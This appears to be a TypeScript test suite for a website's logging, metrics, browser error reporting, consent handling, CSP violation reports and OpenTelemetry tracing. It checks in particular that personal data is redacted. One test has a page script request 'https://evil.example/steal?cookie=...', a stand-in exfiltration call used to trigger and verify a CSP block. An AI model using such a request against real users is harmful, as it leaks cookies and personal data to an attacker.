import { ask, eventually, hydrated, startBuiltSite } from '@kinemorph/site/testing';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright';
import { describe, expect, it } from 'vitest';
import { freePort } from '../../../vitest.shared.ts';
import { afterTheSales } from './support/regions.ts';
import { sandboxedSite } from './support/sandboxed-site.ts';

const admin = await freePort();
const visited = sandboxedSite((sandboxOrigin) => ({
  ADMIN_PORT: String(admin),
  LOG_LEVEL: 'info',
  ACCESS_LOG_SAMPLE: '0',
  TAG_MANAGER_URL: `${sandboxOrigin}/__vendors/tag-manager.js`,
}));

/** Returns the value of a metric; 0 if it has not been counted yet. */
async function metric(series: string): Promise<number> {
  const { body } = await ask(`http://127.0.0.1:${admin}`, '/metrics');
  return Number(
    body
      .split('\n')
      .find((line) => line.startsWith(`${series} `))
      ?.slice(series.length) ?? 0,
  );
}

type Line = Readonly<Record<string, unknown>>;
const lines = (of = visited.site) =>
  of
    .output()
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line) as Line);
const requestLines = () => lines().filter(({ msg }) => msg === 'request');
/** Makes Math.random select every visit for the sample whose vitals are reported. */
const sampled = (page: Page) =>
  page.addInitScript(() => {
    Math.random = () => 0.01;
  });

describe('logs and metrics', () => {
  it('start: one log line contains the settings and the build, which the metrics also name', async () => {
    const start = lines().find(({ msg }) => msg === 'effective settings and build');
    expect(start).toMatchObject({
      site: 'global',
      settings: { accessLog: { mode: 'sampled', sample: 0 }, limits: { apiCalls: 100 } },
    });
    expect(await metric(`kinemorph_build_info{build="${String(start?.build)}",site="global"}`)).toBe(1);
  });

  it('request: is logged as JSON with its ids unless the page was cached, and is always counted', async () => {
    const traceparent = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01';
    await ask(visited.site.origin, '/fr/manuals?email=anna@example.com', {
      headers: { 'x-request-id': 'test-12345', traceparent },
    });
    for (let i = 0; i < 3; i += 1) await ask(visited.site.origin, '/fr/manuals');
    await eventually(() => Promise.resolve(requestLines().filter(({ path }) => path === '/fr/manuals'))).toEqual([
      expect.objectContaining({
        id: 'test-12345',
        traceparent,
        method: 'GET',
        route: 'page',
        region: 'fr',
        status: 200,
        cache: 'miss',
      }),
    ]);
    await eventually(() =>
      metric('kinemorph_http_request_duration_seconds_count{route="page",cache="miss",status="2xx"}'),
    ).toBeGreaterThanOrEqual(1);
    expect(
      await metric('kinemorph_http_request_duration_seconds_count{route="page",cache="hit",status="2xx"}'),
    ).toBeGreaterThanOrEqual(3);
    expect(visited.site.output()).not.toContain('anna');
  });

  it('call to the account API: returns its request id, and is logged and counted', async () => {
    const { headers } = await ask(visited.site.origin, '/usapi/account/nothing-here', {
      headers: { 'x-request-id': 'call-12345' },
    });
    expect(headers['x-request-id']).toBe('call-12345');
    await eventually(() => Promise.resolve(requestLines().find(({ id }) => id === 'call-12345')?.route)).toBe('api');
    const { body } = await ask(`http://127.0.0.1:${admin}`, '/metrics');
    expect(body).toMatch(/kinemorph_forward_duration_seconds_count\{api="us",outcome="[24]xx"\} 1/);
  });
});

describe('browser reports', () => {
  it('uncaught error: is counted and logged, without personal data', async () => {
    await using watched = await visited.open({ expects: /page error/ });
    const { page } = watched;
    await page.goto(`${visited.site.origin}/de/manuals?email=anna@example.com`);
    await page.waitForFunction(() => document.readyState === 'complete');
    expect(watched.requests().filter((request) => /report/.test(request))).toEqual([]);
    await page.evaluate(() => {
      setTimeout(() => {
        throw new TypeError('bad for anna@example.com, order 471108154711');
      });
    });
    await eventually(() => metric('kinemorph_client_errors_total{screen="manuals",region="de",build="current"}')).toBe(
      1,
    );
    await page.evaluate(() => {
      void Promise.reject(new Error('given up'));
    });
    await eventually(() => metric('kinemorph_client_errors_total{screen="manuals",region="de",build="current"}')).toBe(
      2,
    );
    const reported = () => lines().filter(({ msg }) => msg === 'a browser reports an error');
    await eventually(() =>
      Promise.resolve(reported().map(({ message, page: path, region }) => [message, path, region])),
    ).toEqual([
      ['TypeError: bad for <email> order #', '/de/manuals', 'de'],
      ['Error: given up', '/de/manuals', 'de'],
    ]);
    expect(visited.site.output()).not.toMatch(/anna|471108154711/);
  });

  it('uncaught error after React has started: is counted too', async () => {
    await using watched = await visited.open({ expects: /page error/ });
    await watched.page.goto(`${visited.site.origin}/kr`);
    await hydrated(watched.page);
    await watched.page.evaluate(() => {
      setTimeout(() => {
        throw new Error('late');
      });
    });
    await eventually(() => metric('kinemorph_client_errors_total{screen="home",region="kr",build="current"}')).toBe(1);
  });

  it('CSP violation: is counted and logged when sent to the endpoint that the document’s headers name', async () => {
    await using watched = await visited.open({ expects: /Content Security Policy|blocked/ });
    const { page } = watched;
    const document = await page.goto(`${visited.site.origin}/fr/manuals`);
    const headers = document?.headers() ?? {};
    // Headless Chromium creates the report, but never sends it.
    const [report] = await page.evaluate(
      async () =>
        new Promise<object[]>((resolve) => {
          new ReportingObserver((made) => resolve(made.map((one) => (one as { toJSON(): object }).toJSON())), {
            types: ['csp-violation'],
          }).observe();
          new Image().src = 'https://evil.example/steal?cookie=anna@example.com';
        }),
    );
    expect(report).toMatchObject({ type: 'csp-violation', body: { disposition: 'enforce' } });
    const [, group = ''] = /report-to (\w+)/.exec(headers['content-security-policy'] ?? '') ?? [];
    const [, endpoint = ''] = new RegExp(`${group}="([^"]+)"`).exec(headers['reporting-endpoints'] ?? '') ?? [];
    const sent = await ask(visited.site.origin, endpoint, {
      method: 'POST',
      headers: {
        'content-type': 'application/reports+json',
        origin: visited.site.origin,
        'sec-fetch-dest': 'report',
        'sec-fetch-mode': 'cors',
        'sec-fetch-site': 'same-origin',
      },
      body: JSON.stringify([{ age: 1200, user_agent: 'a browser', ...report }]),
    });
    expect(sent.status).toBe(204);
    await eventually(() => metric('kinemorph_policy_violations_total{directive="img-src"}')).toBe(1);
    await eventually(() =>
      Promise.resolve(lines().filter(({ msg }) => msg === 'a browser reports a violation of the policy')),
    ).toEqual([
      expect.objectContaining({
        directive: 'img-src',
        blocked: 'https://evil.example',
        page: '/fr/manuals',
        screen: 'manuals',
        region: 'fr',
      }),
    ]);
    expect(visited.site.output()).not.toMatch(/anna|steal/);
  });

  it('vitals: are sent when the page is left, in a region that needs no consent', async () => {
    await using watched = await visited.open();
    const { page } = watched;
    await sampled(page);
    const loaded = page.waitForResponse(/web-vitals/);
    await page.goto(`${visited.site.origin}/us`);
    await loaded;
    await page.waitForTimeout(300);
    await page.keyboard.press('Shift');
    await page.goto('about:blank');
    await eventually(() => metric('kinemorph_web_vital_lcp_seconds_count{screen="home",region="us"}')).toBe(1);
    await eventually(() => metric('kinemorph_web_vital_cls_count{screen="home",region="us"}')).toBe(1);
  });

  it('vitals: are not sent before consent in a region that needs it [AP-11]', async () => {
    await using watched = await visited.open();
    const { page } = watched;
    await sampled(page);
    await page.goto(`${visited.site.origin}/de`);
    await page.locator('section[data-at-the-foot]').waitFor();
    await page.waitForTimeout(1000);
    await page.keyboard.press('Shift');
    await page.goto('about:blank');
    await page.waitForTimeout(500);
    expect(watched.requests().filter((request) => request.includes('/_report'))).toEqual([]);
    expect(await metric('kinemorph_web_vital_lcp_seconds_count{screen="home",region="de"}')).toBe(0);
  });
});

describe('traces', () => {
  it('are exported to the configured OpenTelemetry endpoint before the server stops', async () => {
    let received = '';
    const collector = createServer((request, response) => {
      request
        .on('data', (part: Buffer) => (received += part.toString()))
        .on('end', () => response.setHeader('content-type', 'application/json').end('{}'));
    }).listen(0, '127.0.0.1');
    await once(collector, 'listening');
    try {
      const traced = await startBuiltSite('global-site', {
        SITE_CLOCK: afterTheSales,
        OTEL_EXPORTER_OTLP_ENDPOINT: `http://127.0.0.1:${(collector.address() as AddressInfo).port}`,
      });
      await ask(traced.origin, '/jp/manuals');
      expect(await traced.stop()).toBe(0);
      expect(received).toContain('"kinemorph-global-site"');
      for (const name of ['GET page', 'queue', 'render']) expect(received).toContain(`"name":"${name}"`);
    } finally {
      collector.closeAllConnections();
      collector.close();
    }
  });
});
